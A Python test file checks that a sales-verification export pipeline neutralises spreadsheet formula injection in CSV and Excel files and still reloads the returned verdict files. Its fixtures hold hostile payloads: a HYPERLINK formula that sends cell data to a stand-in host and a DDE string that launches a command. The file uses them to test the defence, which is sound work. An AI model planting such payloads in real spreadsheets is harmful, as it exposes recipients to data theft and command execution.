"""Spreadsheet formula injection: the files written for people to open never hold a live formula.

The promise (pipelines/lib/safe_cells.py): text starting with = + - @ tab or CR, that is not a plain
number, gets a leading ' in CSV files, and is a string cell with the quotePrefix flag in Excel files
(the text itself unchanged); everything else is written as it was. The verification files managers
return still load. The export files are replaced atomically, never rewritten in place.
"""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from openpyxl import Workbook, load_workbook

from pipelines.lib.safe_cells import is_formula_like, neutralise, neutralise_row, protect_cell
from quality import verification as v

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"click")'
DDE = "=cmd|' /C calc'!A0"
KEYS = [c.key for c in v.EXPORT_COLUMNS]
HEADER = [
    "活动编号 Activity ID", "周 Week", "经理 Manager", "销售代表 Rep", "客户 Customer", "联系人 Contact",
    "联系电话 Mobile", "活动时间 Activity time", "类型 Type", "城市 City", "意向 Intention", "摘要 Summary",
    "抽样层 Stratum", "入样概率 Inclusion probability", "核查结论 Verdict", "备注 Note", "核查人 Verified by",
    "核查时间 Verified at",
]  # fmt: skip


# ---------------------------------------------------------------- the helper


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+86 138 0000 0001", "'+86 138 0000 0001"),
        ("=", "'="),
        ("-", "'-"),
    ],
)
def test_formula_like_text_gets_a_leading_quote(value: str, expected: str) -> None:
    assert is_formula_like(value) is True
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "value",
    ["-5", "-1200.50", "+3", "-0.5", "-.5", "-1.5e3", "1E-3", "13800000001", "客户1", "a=b", "'=quoted", ""],
)
def test_plain_numbers_and_safe_text_are_unchanged(value: str) -> None:
    assert is_formula_like(value) is False
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value",
    [None, 5, -5, -1.5, Decimal("-1200.50"), date(2026, 11, 16), datetime(2026, 11, 16, 10, 0), True],
)
def test_values_that_are_not_text_pass_through(value: Any) -> None:
    assert is_formula_like(value) is False
    assert neutralise(value) is value


def test_neutralise_row() -> None:
    assert neutralise_row(["A101", HYPERLINK, "-5", None, -5, "-A1"]) == [
        "A101", "'" + HYPERLINK, "-5", None, -5, "'-A1",
    ]  # fmt: skip


def test_protect_cell_keeps_the_text_as_a_string_cell_with_quote_prefix() -> None:
    sheet = Workbook().active
    values = [
        HYPERLINK,
        DDE,
        "-2+3",
        "\t=1+1",
        "-5",
        "#N/A",
        "客户1",
        -5,
        datetime(2026, 11, 16, 10, 0),
        None,
    ]
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(1, column)
        cell.value = value
        assert protect_cell(cell) is cell
    got = [(c.value, c.data_type, c.quotePrefix) for c in sheet[1]]
    assert got == [
        (HYPERLINK, "s", True),
        (DDE, "s", True),
        ("-2+3", "s", True),
        ("\t=1+1", "s", True),
        ("-5", "s", False),
        ("#N/A", "s", False),  # openpyxl alone would make it an error cell
        ("客户1", "s", False),
        (-5, "n", False),
        (datetime(2026, 11, 16, 10, 0), "d", False),
        (None, "n", False),
    ]


# ---------------------------------------------------------------- the verification export files


def _row(**values: Any) -> dict[str, Any]:
    return {
        "activity_id": "A101",
        "week_label": "2026-W47",
        "manager_id": "M1",
        "manager_name": "刘旭",
        "rep_name": "张伟",
        "customer_name": "客户1",
        "contact_name": "陈静",
        "contact_mobile": "13800000001",
        "activity_at": datetime(2026, 11, 17, 10, 0),
        "activity_type": "拜访",
        "city": "上海",
        "intention_level": None,
        "summary": "现场拜访",
        "stratum": 1,
        "inclusion_probability": 0.5,
        **values,
    }


ROWS = [
    _row(customer_name=HYPERLINK, contact_name=DDE, summary="-2+3 见面", note="@SUM(A1:A9)"),
    _row(activity_id="A102", customer_name="\t=1+1", contact_name="\r=2+2", summary="-1200.50", note="-5"),
    _row(activity_id="A103", customer_name="+86 138", summary="-A1", stratum=2, inclusion_probability=1.0),
]


def test_csv_export_quotes_every_formula_like_cell(tmp_path: Path) -> None:
    path = v.write_csv(tmp_path / "sample.csv", ROWS)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert '"\'=HYPERLINK(""http://x/?""&A2,""click"")"' in text  # csv-quoted, the ' inside the quotes
    assert "'=cmd|' /C calc'!A0" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == HEADER
    fixed = ["2026-W47", "刘旭", "张伟"]
    assert rows[1:] == [
        ["A101", *fixed, "'" + HYPERLINK, "'" + DDE, "13800000001", "2026-11-17 10:00", "拜访", "上海", "",
         "'-2+3 见面", "1", "0.500", "", "'@SUM(A1:A9)", "", ""],
        ["A102", *fixed, "'\t=1+1", "'\r=2+2", "13800000001", "2026-11-17 10:00", "拜访", "上海", "",
         "-1200.50", "1", "0.500", "", "-5", "", ""],
        ["A103", *fixed, "'+86 138", "陈静", "13800000001", "2026-11-17 10:00", "拜访", "上海", "",
         "'-A1", "2", "1.000", "", "", "", ""],
    ]  # fmt: skip


def _xlsx_cells(path: Path) -> dict[str, list[list[Any]]]:
    workbook = load_workbook(path)  # not data_only: a formula would show as one
    return {
        sheet.title: [[(c.value, c.data_type, bool(c.quotePrefix)) for c in row] for row in sheet.iter_rows()]
        for sheet in workbook.worksheets
    }


def test_xlsx_export_holds_the_exact_text_and_no_formula(tmp_path: Path) -> None:
    path = v.write_xlsx(tmp_path / "sample.xlsx", ROWS)
    cells = _xlsx_cells(path)
    assert list(cells) == ["核查 Verification", "说明 Instructions"]
    assert [c for sheet in cells.values() for row in sheet for c in row if c[1] == "f"] == []
    sheet = cells["核查 Verification"]
    assert [c[0] for c in sheet[0]] == HEADER
    by_key = [dict(zip(KEYS, row, strict=True)) for row in sheet[1:]]
    assert [(r["customer_name"], r["contact_name"], r["summary"], r["note"]) for r in by_key] == [
        ((HYPERLINK, "s", True), (DDE, "s", True), ("-2+3 见面", "s", True), ("@SUM(A1:A9)", "s", True)),
        # XML turns a CR into LF on reading (openpyxl writes it raw): the text as any xlsx reader sees it
        (("\t=1+1", "s", True), ("\n=2+2", "s", True), ("-1200.50", "s", False), ("-5", "s", False)),
        (("+86 138", "s", True), ("陈静", "s", False), ("-A1", "s", True), (None, "n", False)),
    ]
    assert [(r["activity_id"], r["stratum"], r["inclusion_probability"]) for r in by_key] == [
        (("A101", "s", False), (1, "n", False), (0.5, "n", False)),
        (("A102", "s", False), (1, "n", False), (0.5, "n", False)),
        (("A103", "s", False), (2, "n", False), (1.0, "n", False)),
    ]
    assert by_key[0]["activity_at"] == (datetime(2026, 11, 17, 10, 0), "d", False)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sorted(sheets) == ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]
        for name in sheets:
            assert re.search(r"<(\w+:)?f[\s>/]", archive.read(name).decode("utf-8")) is None, name
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode("utf-8")


def test_xlsx_export_keeps_its_layout(tmp_path: Path) -> None:
    sheet = load_workbook(v.write_xlsx(tmp_path / "sample.xlsx", ROWS)).worksheets[0]
    (validation,) = sheet.data_validations.dataValidation
    assert (validation.formula1, str(validation.sqref)) == ('"真实,虚假,无法核实"', "O2:O4")
    assert sheet.freeze_panes == "B2"
    formats = [sheet.cell(2, KEYS.index(k) + 1).number_format for k in ("activity_at", "note", "verified_at")]
    assert formats == ["yyyy-mm-dd hh:mm", "@", "yyyy-mm-dd hh:mm"]
    assert sheet["A1"].font.b is True


@pytest.mark.parametrize("writer", [v.write_csv, v.write_xlsx], ids=["csv", "xlsx"])
def test_export_files_are_replaced_not_rewritten_in_place(writer: Any, tmp_path: Path) -> None:
    site, release = tmp_path / "site", tmp_path / "release"
    site.mkdir()
    release.mkdir()
    suffix = ".csv" if writer is v.write_csv else ".xlsx"
    path = writer(site / f"sample{suffix}", ROWS[:1])
    first = path.read_bytes()
    os.link(path, release / path.name)  # a release that shares the file's inode
    assert writer(path, ROWS) == path
    assert (release / path.name).read_bytes() == first
    assert path.stat().st_ino != (release / path.name).stat().st_ino
    assert path.read_bytes() != first
    assert sorted(p.name for p in site.iterdir()) == [path.name]  # no temporary file left
    umask = os.umask(0)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("writer", [v.write_csv, v.write_xlsx], ids=["csv", "xlsx"])
def test_a_failed_export_leaves_the_old_file_and_no_temporary(
    writer: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = writer(tmp_path / ("sample.csv" if writer is v.write_csv else "sample.xlsx"), ROWS[:1])
    first = path.read_bytes()

    def fail(*_: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(v.os, "replace", fail)
    with pytest.raises(OSError, match="disk full"):
        writer(path, ROWS)
    assert path.read_bytes() == first
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


# ---------------------------------------------------------------- round trip: returned files still load

RECORDS_DDL = """
create schema quality;
create table quality.verification_records (
    activity_id varchar, week_start_date date, week_label varchar, manager_id varchar, manager_name varchar,
    rep_id varchar, rep_name varchar, customer_id varchar, customer_name varchar, contact_name varchar,
    contact_mobile varchar, activity_at timestamp, activity_type varchar, city varchar,
    intention_level varchar, summary varchar, logged_at timestamp, risk_score double
);
"""
W47 = "2026-11-16"
RECORDS = [
    ("A101", W47, "2026-W47", "M1", "刘旭", "R1", "张伟", "C1", HYPERLINK, DDE, "13800000001",
     "2026-11-17 10:00:00", "拜访", "上海", None, "-2+3", "2026-11-17 12:00:00", 0.0),
    ("A102", W47, "2026-W47", "M1", "刘旭", "R1", "张伟", "C2", "@客户2", "-陈静", "13800000002",
     "2026-11-18 10:00:00", "拜访", "上海", None, "+拜访", "2026-11-18 12:00:00", 0.0),
    ("A103", W47, "2026-W47", "M1", "刘旭", "R2", "王芳", "C3", "客户3", "周强", "13900000003",
     "2026-11-19 10:00:00", "电话", "杭州", "高", "=1+1", "2026-11-19 12:00:00", 0.0),
]  # fmt: skip


@pytest.fixture
def exported(tmp_path: Path) -> tuple[Path, Path]:
    """A warehouse whose three records carry payloads, all three sampled (rate 1), and its files."""
    warehouse = tmp_path / "warehouse.duckdb"
    con = duckdb.connect(str(warehouse))
    try:
        con.execute(RECORDS_DDL)
        con.executemany(f"insert into quality.verification_records values ({', '.join('?' * 18)})", RECORDS)
    finally:
        con.close()
    settings = v.SampleSettings(rate=1.0, risk_sample_size=0, salt="")
    files = v.write_verification_sample(warehouse, tmp_path / "site", week_start=W47, settings=settings)
    folder = tmp_path / "site" / "2026-W47"
    assert files == [
        folder / "verification_2026-W47_M1.csv", folder / "verification_2026-W47_M1.xlsx",
        folder / "verification_2026-W47_all.csv", folder / "verification_2026-W47_all.xlsx",
    ]  # fmt: skip
    return warehouse, folder


def test_returned_csv_and_xlsx_with_formula_like_notes_load(
    exported: tuple[Path, Path], tmp_path: Path
) -> None:
    warehouse, folder = exported
    returned = tmp_path / "verdicts"
    returned.mkdir()

    # CSV: A101's verdict and a note starting with "=", saved as "CSV UTF-8" (the other cells as exported)
    with open(folder / "verification_2026-W47_M1.csv", encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert [(r[0], r[KEYS.index("customer_name")]) for r in table[1:]] == [
        ("A101", "'" + HYPERLINK), ("A102", "'@客户2"), ("A103", "客户3"),
    ]  # fmt: skip
    table[1][KEYS.index("verdict")] = "虚假"
    table[1][KEYS.index("note")] = "=客户称未见面"
    table[1][KEYS.index("verified_at")] = "2026-11-24 10:30"
    with open(returned / "刘旭.csv", "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows(table)

    # Excel: A102 with a note starting with "-", A103 with one starting with "=" typed into the Text column
    workbook = load_workbook(folder / "verification_2026-W47_all.xlsx")
    sheet = workbook.worksheets[0]
    ids = [sheet.cell(r, 1).value for r in range(2, sheet.max_row + 1)]
    assert ids == ["A101", "A102", "A103"]
    for row, verdict, note in ((3, "真实", "-客户在外地，电话确认"), (4, "无法核实", "=空号")):
        sheet.cell(row, KEYS.index("verdict") + 1).value = verdict
        sheet.cell(row, KEYS.index("note") + 1).value = note
        sheet.cell(row, KEYS.index("note") + 1).data_type = "s"  # as Excel stores text typed into a Text cell
        sheet.cell(row, KEYS.index("verified_by") + 1).value = "刘旭"
    workbook.save(returned / "刘旭.xlsx")

    assert v.read_table_file(returned / "刘旭.xlsx")[1][KEYS.index("customer_name")] == HYPERLINK
    report = v.load_verdicts(warehouse, returned, loaded_at=datetime(2026, 11, 26, 2, 0))
    assert report.rejected == {}
    assert (report.files_loaded, report.rows_loaded, report.rows_pending) == (["刘旭.csv", "刘旭.xlsx"], 3, 3)
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        loaded = con.execute(
            "select activity_id, verdict, verdict_text, note, verified_by, verified_at::varchar, "
            f"_source_file from {v.VERDICTS_TABLE} order by activity_id"
        ).fetchall()
    finally:
        con.close()
    assert loaded == [
        ("A101", "fake", "虚假", "=客户称未见面", None, "2026-11-24 10:30:00", "刘旭.csv"),
        ("A102", "confirmed", "真实", "-客户在外地，电话确认", "刘旭", None, "刘旭.xlsx"),
        ("A103", "unverifiable", "无法核实", "=空号", "刘旭", None, "刘旭.xlsx"),
    ]
